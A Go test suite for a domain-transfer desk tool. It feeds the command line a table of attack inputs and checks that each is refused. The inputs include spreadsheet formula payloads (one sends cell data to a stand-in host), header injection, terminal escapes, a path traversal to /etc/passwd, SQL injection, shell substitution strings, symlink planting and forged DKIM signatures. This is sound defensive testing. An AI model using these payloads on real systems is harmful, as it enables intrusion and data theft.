package main

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"maps"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode"

	"filippo.io/age"
	"golang.org/x/crypto/ssh"

	"freehold/internal/lab"
	"freehold/internal/lab/desklab"
	"freehold/internal/lab/eppd"
	"freehold/internal/lab/threats"
	"freehold/internal/seal"
)

const (
	doorShop  = "old-shop.com"   // the holder's, who is served after each attack
	doorOther = "other-shop.com" // where the holder is served meanwhile
	doorZone  = "garage-montfleuri.com"
	// doorServer is one of the name servers of doorZone.
	doorServer = "ns1.nordet-web.ca"
)

// door is a desk as it is met from outside: arguments, files, standard input, the DNS.
type door struct {
	dir      string
	env      map[string]string
	dns      map[string]string // flags that lead to the lab's
	now      time.Time
	registry *eppd.Server
	key      *age.X25519Identity
}

func openDoor(t *testing.T) *door {
	t.Helper()
	d := &door{dir: t.TempDir(), now: desklab.Start}
	var err error
	home := filepath.Join(d.dir, "home", ".config", "freehold")
	if err := os.MkdirAll(home, 0o700); err != nil {
		t.Fatal(err)
	}
	d.registry, err = eppd.Listen(eppd.Config{Secure: true, TransferDelay: 5 * 24 * time.Hour, Now: func() time.Time { return desklab.Start },
		Registrars: map[string]string{desklab.Loser: desklab.LoserPassword, desklab.Gainer: desklab.GainerPassword}}, home)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(d.registry.Close)
	for _, n := range []string{doorShop, doorOther, doorZone} {
		d.registry.Add(eppd.Domain{Name: n, Sponsor: desklab.Loser, Statuses: []string{"clientTransferProhibited"}, NameServers: []string{"ns1.host.example"}, Created: desklab.Start.AddDate(-9, 0, 0), Expires: desklab.Start.AddDate(1, 0, 0)}, "")
	}
	config := fmt.Sprintf("[accounts.registry]\nprovider = \"epp\"\ntest = true\nserver = %q\nuser = %q\nsecret = \"env:EPP_PASSWORD\"\ncertificate = \"registry-client.pem\"\nprivate_key = \"registry-client-key.pem\"\nroots = \"registry-ca.pem\"\n", d.registry.Addr, desklab.Loser)
	d.write(t, "home/.config/freehold/config.toml", config)
	var signers string
	for _, who := range []string{"anne", "bruno"} {
		signers += d.operator(t, who, who)
	}
	d.write(t, "signers", signers)
	d.write(t, "mallorys-signers", d.operator(t, "mallory", "anne"))
	if d.key, err = age.GenerateX25519Identity(); err != nil {
		t.Fatal(err)
	}
	d.env = map[string]string{"HOME": filepath.Join(d.dir, "home"), "LANG": "en_US.UTF-8", "USER": "anne", "EPP_PASSWORD": desklab.LoserPassword}
	return d
}

func (d *door) path(name string) string { return filepath.Join(d.dir, name) }

func (d *door) write(t *testing.T, name, text string) {
	t.Helper()
	if err := os.WriteFile(d.path(name), []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
}

// operator makes a key in NAME.key and returns the line that lists it for a principal.
func (d *door) operator(t *testing.T, name, principal string) string {
	t.Helper()
	public, private, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	block, err := ssh.MarshalPrivateKey(private, name)
	if err != nil {
		t.Fatal(err)
	}
	d.write(t, name+".key", string(pem.EncodeToMemory(block)))
	key, err := ssh.NewPublicKey(public)
	if err != nil {
		t.Fatal(err)
	}
	return fmt.Sprintf("%s namespaces=\"freehold\" %s", principal, ssh.MarshalAuthorizedKey(key))
}

// run runs a command of the desk and returns its exit code and all it said.
func (d *door) run(in io.Reader, args ...string) (code int, out, said string) {
	var o, e bytes.Buffer
	code = Run(context.Background(), append([]string{"freehold"}, d.line(args)...), Streams{In: in, Out: &o, Err: &e, Getenv: func(name string) string { return d.env[name] }})
	return code, o.String(), o.String() + e.String()
}

// process runs a command as a process of its own, as two people at two machines do.
func (d *door) process(t *testing.T, args ...string) (said string, ok bool) {
	t.Helper()
	c := exec.Command("freehold", d.line(args)...)
	c.Env = []string{"PATH=" + os.Getenv("PATH")}
	for k, v := range d.env {
		c.Env = append(c.Env, k+"="+v)
	}
	text, err := c.CombinedOutput()
	if exit := (*exec.ExitError)(nil); err != nil && !errors.As(err, &exit) {
		t.Error(err)
	}
	return string(text), err == nil
}

// line adds to a command what all of them need here and it does not say itself.
func (d *door) line(args []string) []string {
	line := slices.Clone(args)
	if args[0] == "desk" {
		flags := map[string]string{"--now": d.now.Format(time.RFC3339), "--signers": d.path("signers"), "--operator": "anne"}
		switch args[1] {
		case "release":
			flags["--account"] = "registry"
		case "check":
			maps.Copy(flags, d.dns)
		}
		for flag, value := range flags {
			if !slices.Contains(args, flag) {
				line = append(line, flag, value)
			}
		}
	}
	return line
}

// does runs a command that has to go well.
func (d *door) does(t *testing.T, in string, args ...string) string {
	t.Helper()
	code, out, said := d.run(strings.NewReader(in), args...)
	if code != exitDone {
		t.Fatalf("%q: exit code %d: %s", args, code, said)
	}
	return out
}

// told runs a command and returns all it said, with its exit code before.
func (d *door) told(args ...string) string {
	code, _, said := d.run(strings.NewReader(""), args...)
	return fmt.Sprintf("exit code %d: %s", code, said)
}

// deskDoc is what the tests read of JSON.
type deskDoc struct {
	Case, State, Question, Token string
	Deadline                     time.Time
}

func (d *door) json(t *testing.T, in string, args ...string) (doc deskDoc) {
	t.Helper()
	if err := json.Unmarshal([]byte(d.does(t, in, append(args, "--format", "json")...)), &doc); err != nil {
		t.Fatal(err)
	}
	return doc
}

// opens opens a case with the holder's mailbox and telephone, and more flags.
func (d *door) opens(t *testing.T, name string, more ...string) string {
	t.Helper()
	return d.json(t, "", append([]string{"desk", "open", name, "--holder", "Abegg Früchte GmbH", "--contact", "mail:rosa@post.example@2023-05-01", "--contact", "phone:+41440000000@2023-05-01"}, more...)...).Case
}

// proves has the holder answer in the mailbox on record, and be told by telephone.
func (d *door) proves(t *testing.T, id string) {
	t.Helper()
	asked := d.json(t, "", "desk", "check", id, "contact_mail", "--to", "c1")
	d.does(t, asked.Token+"\n", "desk", "check", id, "--answer", asked.Question)
	d.does(t, "", "desk", "note", id, "--told", "c2")
}

// proven opens a case of which the approval is missing.
func (d *door) proven(t *testing.T, name string, more ...string) string {
	t.Helper()
	id := d.opens(t, name, more...)
	d.proves(t, id)
	d.now = d.now.Add(25 * time.Hour)
	return id
}

func (d *door) approves(t *testing.T, id, who string) {
	t.Helper()
	d.does(t, "", "desk", "approve", id, "--deliver", "key "+d.key.Recipient().String(), "--key", d.path(who+".key"), "--operator", who)
}

// served has the holder ask for the name and hold its code before the deadline.
func (d *door) served(t *testing.T) {
	t.Helper()
	id := d.opens(t, doorShop)
	deadline := d.json(t, "", "desk", "show", id).Deadline
	d.proves(t, id)
	d.now = d.now.Add(25 * time.Hour)
	d.approves(t, id, "anne")
	release := []string{"desk", "release", id, "--yes", "-o", d.path("served.age")}
	if code, _, _ := d.run(strings.NewReader(""), release...); code != exitDone {
		d.approves(t, id, "bruno") // what happened before may call for two
		d.does(t, "", release...)
	}
	if !d.now.Before(deadline) {
		t.Errorf("served at %s, after the deadline %s", d.now, deadline)
	}
	d.accepted(t, doorShop, "served.age")
}

// accepted holds a sealed code in a file to the one at the registry.
func (d *door) accepted(t *testing.T, name, file string) {
	t.Helper()
	text, err := os.ReadFile(d.path(file))
	if err != nil {
		t.Fatal(err)
	}
	code, err := seal.Open(text, d.key)
	if err != nil {
		t.Fatal(err)
	}
	at, _ := d.registry.Get(name)
	code.Use(func(b []byte) {
		if !at.Accepts(string(b)) {
			t.Errorf("the registry takes another code for %s", name)
		}
	})
}

// doorLab is the world whose DNS the attacks on checks need: one for all of them.
var doorLab = sync.OnceValues(func() (*lab.Lab, error) { return lab.Start(context.Background(), lab.Config{}) })

// inLab leads a door to the lab's DNS.
func (d *door) inLab(t *testing.T) *lab.Lab {
	t.Helper()
	l, err := doorLab()
	if err != nil {
		t.Fatal(err)
	}
	d.dns = map[string]string{"--timeout": "3s"}
	flags := l.Flags()
	for i := 0; i+1 < len(flags); i += 2 {
		if strings.HasPrefix(flags[i], "--dns-") {
			d.dns[flags[i]] = flags[i+1]
		}
	}
	return l
}

// published publishes the token of a case's DNS question, at one name server or all,
// and returns what the check says.
func (d *door) published(t *testing.T, at string) string {
	t.Helper()
	l := d.inLab(t)
	id := d.opens(t, doorZone)
	asked := d.json(t, "", "desk", "check", id, "dns_txt")
	r, err := http.NewRequest(http.MethodPut, l.Control()+"/txt/_freehold-challenge."+doorZone+at, strings.NewReader(asked.Token))
	if err != nil {
		t.Fatal(err)
	}
	res, err := http.DefaultClient.Do(r)
	if err != nil {
		t.Fatal(err)
	}
	res.Body.Close()
	if res.StatusCode != http.StatusNoContent {
		t.Fatalf("the lab says %s", res.Status)
	}
	said := d.told("desk", "check", id, "--answer", asked.Question, "--ask-resolver", l.Resolver())
	return said + d.told("desk", "show", id)
}

// mail is a message that says to come from the holder, in a file, as the check sees it.
func (d *door) mail(t *testing.T, more string) string {
	t.Helper()
	d.inLab(t)
	id := d.opens(t, doorOther)
	d.write(t, "request.eml", more+"From: rosa@post.example\r\nTo: desk@host.example\r\nSubject: "+id+"\r\n\r\nPlease.\r\n")
	return d.told("desk", "check", id, "dkim_mail", "--to", "c1", "--mail", d.path("request.eml"))
}

// doorAttack is an attack at the command line; try returns what was said.
type doorAttack struct {
	threats.Attack
	try func(t *testing.T, d *door) string
}

// entered tries to open a case with something odd in it.
func entered(args ...string) func(*testing.T, *door) string {
	return func(_ *testing.T, d *door) string { return d.told(append([]string{"desk", "open"}, args...)...) }
}

var doorAttacks = []doorAttack{
	{threats.Attack{Who: "thief", Does: "gives a formula as a name, for whoever opens the list as a table", Stops: "a name is a domain name", Says: "is not a domain name"},
		entered(`=HYPERLINK("http://x.example?"&A1,"see").com`, "--holder", "X")},
	{threats.Attack{Who: "thief", Does: "gives a formula as the holder, for whoever opens the ledger or the list as a table", Stops: "lists are JSON or text, and a formula stays in its quotation marks", Says: `"party"`},
		func(t *testing.T, d *door) string {
			id := d.opens(t, doorOther, "--requester", "=cmd|' /C calc'!A0")
			said := d.told("desk", "list", "--format", "csv")
			if !strings.Contains(said, "is not a format") {
				t.Errorf("csv: %s", said)
			}
			d.does(t, "", "desk", "object", id, "--party", "@SUM(1+1)")
			for line := range strings.Lines(d.told("desk", "list", "--all") + d.does(t, "", "desk", "show", id)) {
				if strings.ContainsRune("=+-@", rune(line[0])) {
					t.Errorf("a line begins a formula: %q", line)
				}
			}
			return `"party"`
		}},
	{threats.Attack{Who: "thief", Does: "gives a mailbox with a second header in it", Stops: "what people give is one line", Says: "is not one line of text"},
		entered(doorOther, "--holder", "X", "--contact", "mail:rosa@post.example\r\nBcc: thief@x.example@2020-01-01")},
	{threats.Attack{Who: "thief", Does: "gives a holder with a second header in it", Stops: "what people give is one line", Says: "is not one line of text"},
		entered(doorOther, "--holder", "Abegg\nBcc: thief@x.example")},
	{threats.Attack{Who: "thief", Does: "gives a name that turns the reader's screen", Stops: "what people give is one line, without escapes", Says: "is not one line of text"},
		entered(doorOther, "--holder", "X\x1b[2J\x1b]0;done\x07")},
	{threats.Attack{Who: "thief", Does: "gives a name that is read from right to left", Stops: "what people give is one line, without marks of direction", Says: "is not one line of text"},
		entered(doorOther, "--holder", "Abegg \u202eHbmG")},
	{threats.Attack{Who: "thief", Does: "writes a template and verbs of printing into every text", Stops: "texts are arguments, never formats", Says: "{{.Secret}} %s %!d(x)"},
		func(t *testing.T, d *door) string {
			const text = "{{.Secret}} %s %!d(x) ${HOME} $(id)"
			id := d.opens(t, doorOther, "--requester", text)
			d.does(t, "", "desk", "object", id, "--party", text, text)
			d.does(t, "", "desk", "note", id, "--doubt", "odd_request", text)
			said := d.does(t, "", "desk", "show", id) + d.does(t, "", "desk", "show", id, "--lang", "de")
			if strings.Contains(said, "MISSING") || strings.Contains(said, "EXTRA") || strings.Contains(said, "NOVERB") {
				t.Errorf("a text was a format: %s", said)
			}
			return said
		}},
	{threats.Attack{Who: "thief", Does: "asks for a name with a Cyrillic letter in it", Stops: "labels of several scripts are no names unless they are meant", Says: "mixes scripts"},
		entered("оld-shop.com", "--holder", "X")},
	{threats.Attack{Who: "thief", Does: "asks for a name all in Cyrillic that reads like another", Stops: "it is another name, which the registry does not have with us", Says: "the registry does not have it"},
		func(t *testing.T, d *door) string {
			id := d.proven(t, "xn--80ak6aa92e.com")
			d.approves(t, id, "anne")
			return d.told("desk", "release", id, "--yes", "-o", d.path("code.age"))
		}},
	{threats.Attack{Who: "thief", Does: "writes from a domain that looks like the holder's", Stops: "look-alikes are found by themselves, and raise what is asked for as far as the rules allow", Says: "which looks like"},
		func(t *testing.T, d *door) string {
			return d.told("desk", "show", d.opens(t, doorOther, "--asked-by", "rosa@p0st.example"))
		}},
	{threats.Attack{Who: "thief", Does: "asks in the holder's name, from a domain that looks like theirs, to slip into their open case", Stops: "a request that is made again is looked at like a first one, and its contacts are none", Says: "which looks like"},
		func(t *testing.T, d *door) string {
			id := d.opens(t, doorOther)
			again := d.json(t, "", "desk", "open", doorOther, "--holder", "Abegg Früchte GmbH", "--contact", "mail:rosa@p0st.example@2001-01-01", "--asked-by", "rosa@p0st.example")
			said := d.told("desk", "show", id)
			if again.Case != id || strings.Contains(said, "2001-01-01") {
				t.Errorf("case %q, not %q: %s", again.Case, id, said)
			}
			return said
		}},
	{threats.Attack{Who: "thief", Does: "asks for a case by a path", Stops: "cases are rows, not files", Says: "is not a domain name"},
		func(_ *testing.T, d *door) string { return d.told("desk", "show", "../../../etc/passwd") }},
	{threats.Attack{Who: "thief", Does: "asks for a case by a piece of SQL", Stops: "queries take arguments", Says: "there is no case"},
		func(t *testing.T, d *door) string {
			d.opens(t, doorOther)
			return d.told("desk", "show", "' OR 1=1; DROP TABLE cases; --") + d.does(t, "", "desk", "list")
		}},
	{threats.Attack{Who: "insider", Does: "names another file as the identity policy", Stops: "what is no policy is refused", Says: "identity profile cannot be used"},
		func(t *testing.T, d *door) string {
			return d.told("desk", "open", doorOther, "--holder", "X", "--profile", d.path("home/../signers"))
		}},
	{threats.Attack{Who: "insider", Does: "writes a policy that leaves nobody time to object", Stops: "the policy is signed with the decision, and the worker has its own", Says: "operators have approved it"},
		func(t *testing.T, d *door) string {
			normal, err := os.ReadFile("../../verify/identity/data/normal.toml")
			if err != nil {
				t.Fatal(err)
			}
			d.write(t, "lax.toml", strings.NewReplacer(`delay = "24 hours"`, `delay = "1 hours"`, `name = "normal"`, `name = "lax"`).Replace(string(normal)))
			id := d.proven(t, doorOther)
			d.does(t, "", "desk", "approve", id, "--deliver", "key "+d.key.Recipient().String(), "--key", d.path("anne.key"), "--profile", d.path("lax.toml"))
			return d.told("desk", "release", id, "--yes", "-o", d.path("code.age"))
		}},
	{threats.Attack{Who: "somebody on the machine", Does: "places symbolic links where the code is to be written", Stops: "outputs are made anew beside their place and never written through what lies there", Says: "code handed over"},
		func(t *testing.T, d *door) string {
			d.write(t, "precious", "precious\n")
			for _, at := range []string{"code.age", "code.age.part"} {
				if err := os.Symlink(d.path("precious"), d.path(at)); err != nil {
					t.Fatal(err)
				}
			}
			id := d.proven(t, doorOther)
			d.approves(t, id, "anne")
			said := d.told("desk", "release", id, "--yes", "-o", d.path("code.age"))
			if kept, err := os.ReadFile(d.path("precious")); err != nil || string(kept) != "precious\n" {
				t.Errorf("the file behind the link was written to: %q, %v", kept, err)
			}
			if st, err := os.Lstat(d.path("code.age")); err != nil || st.Mode() != 0o600 {
				t.Errorf("the code lies in %v, %v", st, err)
			}
			d.accepted(t, doorOther, "code.age")
			return said
		}},
	{threats.Attack{Who: "somebody on the machine", Does: "places a file that everybody reads where the code is to be written", Stops: "outputs are files of their own, of mode 0600", Says: "code handed over"},
		func(t *testing.T, d *door) string {
			if err := os.WriteFile(d.path("code.age.part"), nil, 0o666); err != nil {
				t.Fatal(err)
			}
			reader, err := os.Open(d.path("code.age.part"))
			if err != nil {
				t.Fatal(err)
			}
			defer reader.Close()
			id := d.proven(t, doorOther)
			d.approves(t, id, "anne")
			said := d.told("desk", "release", id, "--yes", "-o", d.path("code.age"))
			if b, err := io.ReadAll(reader); err != nil || len(b) > 0 {
				t.Errorf("who had opened the file reads %d octets, %v", len(b), err)
			}
			d.accepted(t, doorOther, "code.age")
			return said
		}},
	{threats.Attack{Who: "insider", Does: "names a folder for the code, so that it is handed over to nobody", Stops: "the output is opened before the code is handed over", Says: "is a directory"},
		func(t *testing.T, d *door) string {
			id := d.proven(t, doorOther)
			d.approves(t, id, "anne")
			said := d.told("desk", "release", id, "--yes", "-o", d.dir)
			d.does(t, "", "desk", "release", id, "--yes", "-o", d.path("code.age"))
			d.accepted(t, doorOther, "code.age")
			return said
		}},
	{threats.Attack{Who: "thief", Does: "says that he asked in the year 1600, so that every deadline has passed", Stops: "a first request is believed for a year", Says: "more than a year ago"},
		entered(doorOther, "--holder", "X", "--first", "1600-01-01")},
	{threats.Attack{Who: "insider", Does: "works in the year 9999, so that no list can be written any more", Stops: "no event is dated then", Says: "the year 9999"},
		func(t *testing.T, d *door) string {
			said := d.told("desk", "open", doorOther, "--holder", "X", "--now", "9999-12-31")
			d.does(t, "", "desk", "list", "--format", "json")
			return said
		}},
	{threats.Attack{Who: "thief", Does: "has a contact on record since the year 9999", Stops: "what has not come yet proves nothing, and is not entered", Says: "has not come yet"},
		entered(doorOther, "--holder", "X", "--contact", "mail:x@y.example@9999-12-31")},
	{threats.Attack{Who: "insider", Does: "gives numbers beyond what a machine counts", Stops: "numbers have bounds", Says: "it takes a whole number"},
		func(_ *testing.T, d *door) string {
			return d.told("desk", "release", "--approved", "--parallel", "99999999999999999999")
		}},
	{threats.Attack{Who: "thief", Does: "gives five thousand contacts, so that everybody is written to", Stops: "a case has fifty at most", Says: "at most 50 contacts"},
		func(t *testing.T, d *door) string {
			args := []string{"desk", "open", doorOther, "--holder", "X"}
			for i := range 5000 {
				args = append(args, "--contact", fmt.Sprintf("mail:a%d@b.example", i))
			}
			return d.told(args...)
		}},
	{threats.Attack{Who: "thief", Does: "answers a token with ten megabytes", Stops: "answers have a bound, and a wrong one is one of three", Says: "another token"},
		func(t *testing.T, d *door) string {
			id := d.opens(t, doorOther)
			asked := d.json(t, "", "desk", "check", id, "contact_mail", "--to", "c1")
			_, _, said := d.run(io.LimitReader(endless{}, 10<<20), "desk", "check", id, "--answer", asked.Question)
			return said
		}},
	{threats.Attack{Who: "thief", Does: "guesses a spoken code on the call-back", Stops: "three guesses of a million million", Says: "void after 3 wrong answers"},
		func(t *testing.T, d *door) string {
			id := d.opens(t, doorShop) // the holder's own: they are called again
			asked := d.json(t, "", "desk", "check", id, "call_back", "--to", "c2")
			var said string
			for range 4 {
				_, _, said = d.run(strings.NewReader("0000 0000 0000\n"), "desk", "check", id, "--answer", asked.Question)
			}
			return said
		}},
	{threats.Attack{Who: "thief", Does: "has a check of another method answered with the token of the mail", Stops: "a token is bound to its method and contact", Says: "another token"},
		func(t *testing.T, d *door) string {
			id := d.opens(t, doorOther)
			mailed := d.json(t, "", "desk", "check", id, "contact_mail", "--to", "c1")
			called := d.json(t, "", "desk", "check", id, "call_back", "--to", "c2")
			_, _, said := d.run(strings.NewReader(mailed.Token+"\n"), "desk", "check", id, "--answer", called.Question)
			return said
		}},
	{threats.Attack{Who: "thief", Does: "sends a mail in the holder's name, unsigned", Stops: "a mail without a signature proves nothing", Says: "no signature"},
		func(t *testing.T, d *door) string { return d.mail(t, "") }},
	{threats.Attack{Who: "thief", Does: "adds his text below a mail of which only a part is signed (l=)", Stops: "a signature over a part of the text is none", Says: "a part of the text only"},
		func(t *testing.T, d *door) string {
			return d.mail(t, "DKIM-Signature: v=1; a=rsa-sha256; d=post.example; s=k; h=from:subject; l=2; bh=x; b=x; t=1\r\n")
		}},
	{threats.Attack{Who: "thief", Does: "signs a mail in the holder's name with his own domain", Stops: "a signature has to be the sender's domain's", Says: "not by the sender's domain"},
		func(t *testing.T, d *door) string {
			return d.mail(t, "DKIM-Signature: v=1; a=rsa-sha256; d=thief.example; s=k; h=from:subject; bh=x; b=x; t=1\r\n")
		}},
	{threats.Attack{Who: "thief", Does: "gives a device without end as the mail", Stops: "files have a bound", Says: "is longer than"},
		func(t *testing.T, d *door) string {
			return d.told("desk", "check", d.opens(t, doorOther), "dkim_mail", "--to", "c1", "--mail", "/dev/zero")
		}},
	{threats.Attack{Who: "thief", Does: "spoofs the answer of one name server", Stops: "every name server and two resolvers have to show the token", Says: "not every server shows the token"},
		func(t *testing.T, d *door) string { return d.published(t, "@"+doorServer) }},
	{threats.Attack{Who: "failing host", Does: "places the record with the token at every name server", Stops: "what the host can place supports, and carries nothing", Says: "a strength of 1 by 0"},
		func(t *testing.T, d *door) string { return d.published(t, "") }},
	{threats.Attack{Who: "operator", Does: "signs in a colleague's name", Stops: "a decision is signed by the key of who it names", Says: "has no key that made this signature"},
		func(t *testing.T, d *door) string {
			id := d.proven(t, doorOther)
			return d.told("desk", "approve", id, "--deliver", "aloud", "--key", d.path("anne.key"), "--operator", "bruno")
		}},
	{threats.Attack{Who: "operator", Does: "approves a valuable name in two sessions", Stops: "two different operators and keys", Says: "1 of 2 operators"},
		func(t *testing.T, d *door) string {
			id := d.proven(t, doorOther, "--high-value")
			d.approves(t, id, "anne")
			d.now = d.now.Add(time.Minute)
			d.approves(t, id, "anne")
			return d.told("desk", "release", id, "--yes", "-o", d.path("code.age"))
		}},
	{threats.Attack{Who: "operators", Does: "two approve at the same moment", Stops: "a write that another one overtook is judged anew", Says: "code handed over"},
		func(t *testing.T, d *door) string {
			id := d.proven(t, doorOther, "--high-value")
			var both sync.WaitGroup
			for _, who := range []string{"anne", "bruno"} {
				both.Go(func() {
					if said, ok := d.process(t, "desk", "approve", id, "--deliver", "key "+d.key.Recipient().String(), "--key", d.path(who+".key"), "--operator", who); !ok {
						t.Errorf("%s: %s", who, said)
					}
				})
			}
			both.Wait()
			said := d.told("desk", "release", id, "--yes", "-o", d.path("code.age"))
			d.accepted(t, doorOther, "code.age")
			return said
		}},
	{threats.Attack{Who: "operators", Does: "two release at the same moment, to two files", Stops: "a code is handed over once", Says: "once"},
		func(t *testing.T, d *door) string {
			id := d.proven(t, doorOther)
			d.approves(t, id, "anne")
			var both sync.WaitGroup
			for i := range 3 {
				both.Go(func() {
					d.process(t, "desk", "release", id, "--yes", "-o", d.path(fmt.Sprintf("code%d.age", i)))
				})
			}
			both.Wait()
			d.run(strings.NewReader(""), "desk", "release", id, "--yes", "-o", d.path("code3.age")) // where each met another
			written, err := filepath.Glob(d.path("code?.age"))
			if err != nil || len(written) != 1 {
				t.Errorf("handed over to %q, %v", written, err)
				return ""
			}
			d.accepted(t, doorOther, filepath.Base(written[0]))
			return "once"
		}},
	{threats.Attack{Who: "insider", Does: "approves with a signers' file of his own", Stops: "the worker trusts its own file only", Says: "0 of 1 operators"},
		func(t *testing.T, d *door) string {
			id := d.proven(t, doorOther)
			d.does(t, "", "desk", "approve", id, "--deliver", "aloud", "--key", d.path("mallory.key"), "--signers", d.path("mallorys-signers"))
			return d.told("desk", "release", id, "--yes", "-o", d.path("code.age"))
		}},
	{threats.Attack{Who: "insider", Does: "has a code sent by plain mail", Stops: "there is no such delivery (RFC 9154, section 4.3)", Says: "not sent by plain mail"},
		func(t *testing.T, d *door) string {
			return d.told("desk", "approve", d.proven(t, doorOther), "--deliver", "mail rosa@post.example", "--key", d.path("anne.key"))
		}},
	{threats.Attack{Who: "insider", Does: "cuts a decision out of the ledger that was exported", Stops: "every line is in the tree whose head is signed", Says: "the ledger is damaged"},
		func(t *testing.T, d *door) string {
			id := d.proven(t, doorOther)
			d.approves(t, id, "anne")
			public := strings.TrimSpace(d.does(t, "", "ledger", "key", "--new", "desk.host.example/ledger"))
			d.does(t, "", "desk", "release", id, "--yes", "-o", d.path("code.age"))
			d.does(t, "", "ledger", "export", "-o", d.path("ledger.txt"))
			d.does(t, "", "ledger", "verify", d.path("ledger.txt"), "--public-key", public)
			text, err := os.ReadFile(d.path("ledger.txt"))
			if err != nil {
				t.Fatal(err)
			}
			lines := strings.SplitAfter(string(text), "\n")
			d.write(t, "cut.txt", lines[0]+strings.Join(lines[2:], ""))
			return d.told("ledger", "verify", d.path("cut.txt"), "--public-key", public)
		}},
	{threats.Attack{Who: "insider", Does: "makes a ledger anew with a key of his own", Stops: "a ledger is verified by the public key that was known before", Says: "signed by no key that you trust"},
		func(t *testing.T, d *door) string {
			public := strings.TrimSpace(d.does(t, "", "ledger", "key", "--new", "desk.host.example/ledger"))
			d.env["HOME"] = d.path("elsewhere") // another desk of the same name
			if err := os.MkdirAll(d.path("elsewhere/.config"), 0o700); err != nil {
				t.Fatal(err)
			}
			if err := os.CopyFS(d.path("elsewhere/.config/freehold"), os.DirFS(d.path("home/.config/freehold"))); err != nil {
				t.Fatal(err)
			}
			for _, kept := range []string{"ledger.key", "ledger-key"} {
				os.Remove(d.path("elsewhere/.config/freehold/" + kept))
			}
			id := d.proven(t, doorOther)
			d.approves(t, id, "anne")
			d.does(t, "", "ledger", "key", "--new", "desk.host.example/ledger")
			d.does(t, "", "ledger", "export", "-o", d.path("forged.txt"))
			d.env["HOME"], d.now = d.path("home"), desklab.Start
			return d.told("ledger", "verify", d.path("forged.txt"), "--public-key", public)
		}},
	{threats.Attack{Who: "host", Does: "keeps a name because a bill is disputed", Stops: "payment is no reason to refuse (Transfer Policy I.A.5.4)", Says: "no reason to keep a name"},
		func(t *testing.T, d *door) string {
			return d.told("desk", "deny", d.proven(t, doorOther), "--as", "refuse", "--reason", "payment_dispute", "--key", d.path("anne.key"))
		}},
	{threats.Attack{Who: "false claimant", Does: "objects, and objects again, and proves nothing", Stops: "without proof an objection holds until a day before the deadline", Says: "without having proven to be the holder"},
		func(t *testing.T, d *door) string {
			id := d.opens(t, doorOther)
			for range 5 {
				d.does(t, "", "desk", "object", id, "--party", "M. Escroc", "--claims", "holder")
			}
			said := d.told("desk", "show", id)
			d.proves(t, id)
			asked := d.json(t, "", "desk", "check", id, "call_back", "--to", "c2")
			d.does(t, asked.Token+"\n", "desk", "check", id, "--answer", asked.Question)
			before := d.now
			d.now = d.json(t, "", "desk", "show", id).Deadline.Add(-24 * time.Hour)
			d.approves(t, id, "anne")
			d.approves(t, id, "bruno")
			d.does(t, "", "desk", "release", id, "--yes", "-o", d.path("code.age"))
			d.accepted(t, doorOther, "code.age")
			d.now = before
			return said
		}},
}

// endless is a stream of one line that does not end.
type endless struct{}

func (endless) Read(b []byte) (int, error) {
	for i := range b {
		b[i] = 'a'
	}
	return len(b), nil
}

// TestDoors plays each attack at the command line: it ends as the table says, without a
// terminal escape, and the holder is served in time.
func TestDoors(t *testing.T) {
	t.Cleanup(func() {
		if l, err := doorLab(); err == nil {
			l.Close()
		}
	})
	var rows []threats.Attack
	for _, a := range doorAttacks {
		rows = append(rows, a.Attack)
		t.Run(strings.ReplaceAll(a.Who+" "+a.Does, " ", "_"), func(t *testing.T) {
			d := openDoor(t)
			said := a.try(t, d)
			if !strings.Contains(said, a.Says) {
				t.Errorf("it says %q, not %q", said, a.Says)
			}
			if strings.ContainsFunc(said, func(r rune) bool { return unicode.IsControl(r) && r != '\n' && r != '\t' }) {
				t.Errorf("it writes control characters: %q", said)
			}
			if at, _ := d.registry.Get(doorShop); at.HasCode() {
				t.Error("a code stands that nobody approved")
			}
			d.served(t)
		})
	}
	threats.Hold(t, "../../docs/threat-model.md", "doors", rows)
}
